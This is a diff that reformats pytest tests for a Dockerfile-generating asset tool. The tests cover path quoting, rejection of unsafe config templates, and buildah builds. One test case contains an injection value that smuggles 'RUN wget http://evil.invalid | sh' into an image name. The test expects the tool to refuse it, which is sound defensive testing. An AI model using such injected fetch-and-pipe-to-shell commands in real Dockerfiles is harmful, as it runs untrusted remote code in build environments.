@@ -111,8 +111,7 @@ def test_a_space_in_a_copy_source_uses_the_json_form_and_reads_back_exactly(tmp_
     )
     parsed = parse_dockerfile(text)
     assert parsed.errors == []
-    assert [(i.keyword, i.json_args) for i in parsed.instructions] == [
-        ("FROM", None), ("FROM", None), ("COPY", ("/my site/", "/my site/"))]
+    assert [(i.keyword, i.json_args) for i in parsed.instructions] == [("FROM", None), ("FROM", None), ("COPY", ("/my site/", "/my site/"))]
     assert [s.base for s in parsed.stages] == [IMAGE, "scratch"]
     assert parsed.instructions[-1].flag("from").value == "source"
 
@@ -137,8 +136,7 @@ def test_dockerfile_words_that_a_builder_would_reinterpret_are_refused(path: str
 
 @pytest.mark.parametrize(
     ("path", "word"),
-    [("/site/", "/site/"), ("/my site/", '"/my site/"'), ("/café/", '"/café/"'), ("/a#b", '"/a#b"'),
-     ("--from=x", '"--from=x"')],
+    [("/site/", "/site/"), ("/my site/", '"/my site/"'), ("/café/", '"/café/"'), ("/a#b", '"/a#b"'), ("--from=x", '"--from=x"')],
 )
 def test_plain_and_quoted_dockerfile_words(path: str, word: str) -> None:
     assert dockerfile_word(path) == word
@@ -146,8 +144,10 @@ def test_plain_and_quoted_dockerfile_words(path: str, word: str) -> None:
 
 @pytest.mark.parametrize(
     ("image", "kind"),
-    [(f"{IMAGE}\nRUN wget http://evil.invalid | sh\nFROM scratch", WriteRefusal.CONTROL_CHARACTERS),
-     (f"{IMAGE} ", WriteRefusal.INVALID_REFERENCE)],
+    [
+        (f"{IMAGE}\nRUN wget http://evil.invalid | sh\nFROM scratch", WriteRefusal.CONTROL_CHARACTERS),
+        (f"{IMAGE} ", WriteRefusal.INVALID_REFERENCE),
+    ],
 )
 def test_a_hostile_init_image_never_reaches_a_dockerfile_or_a_reference(tmp_path: Path, image: str, kind: WriteRefusal) -> None:
     root = _repo(tmp_path, _manifest("/site/.", image=image))
@@ -190,8 +190,9 @@ def test_config_templates_that_could_write_anything_are_rejected(key: str, value
 
 
 def test_default_and_ordinary_templates_are_accepted() -> None:
-    config = config_from_table({"image-name-template": "ghcr.io/acme/{name}-assets:{tag}",
-                                "asset-dockerfile-path": "build/assets/{name}.Dockerfile"}, "t")
+    config = config_from_table(
+        {"image-name-template": "ghcr.io/acme/{name}-assets:{tag}", "asset-dockerfile-path": "build/assets/{name}.Dockerfile"}, "t"
+    )
     assert config.image_name_template == "ghcr.io/acme/{name}-assets:{tag}"
     assert config.asset_dockerfile_path == "build/assets/{name}.Dockerfile"
 
@@ -226,17 +227,34 @@ def test_the_quoted_asset_dockerfile_builds_the_path_with_a_space(tmp_path: Path
     _engine(root, "scratch").fix()
     dockerfile = root / "assets/web-site/Dockerfile"
     new_ref = "registry.example.com/web-site-assets:1.4.2"
-    assert main(["build", str(root), "-f", str(dockerfile), "-t", new_ref, "-o", str(tmp_path / "oci-asset"),
-                 "--image", f"{IMAGE}=oci:{tmp_path / 'oci-src'}:1"]) == 0
+    assert (
+        main(
+            [
+                "build",
+                str(root),
+                "-f",
+                str(dockerfile),
+                "-t",
+                new_ref,
+                "-o",
+                str(tmp_path / "oci-asset"),
+                "--image",
+                f"{IMAGE}=oci:{tmp_path / 'oci-src'}:1",
+            ]
+        )
+        == 0
+    )
     capsys.readouterr()
     assert _layer_names(tmp_path / "oci-asset") == {"my site", "my site/index.html"}
     buildah = shutil.which("buildah")
     if buildah is None:
         return
     flags = [buildah, "--root", str(tmp_path / "r"), "--runroot", str(tmp_path / "rr"), "--storage-driver", "vfs"]
-    for args in (["bud", "--isolation", "chroot", "--pull=never", "-t", IMAGE, str(context)],
-                 ["bud", "--isolation", "chroot", "--pull=never", "-t", new_ref, "-f", str(dockerfile), str(root)],
-                 ["push", new_ref, f"oci:{tmp_path / 'oci-buildah'}:1"]):
+    for args in (
+        ["bud", "--isolation", "chroot", "--pull=never", "-t", IMAGE, str(context)],
+        ["bud", "--isolation", "chroot", "--pull=never", "-t", new_ref, "-f", str(dockerfile), str(root)],
+        ["push", new_ref, f"oci:{tmp_path / 'oci-buildah'}:1"],
+    ):
         done = subprocess.run(flags + args, capture_output=True, text=True, timeout=300)
         assert done.returncode == 0, done.stderr
     assert _layer_names(tmp_path / "oci-buildah") == {"my site", "my site/index.html"}
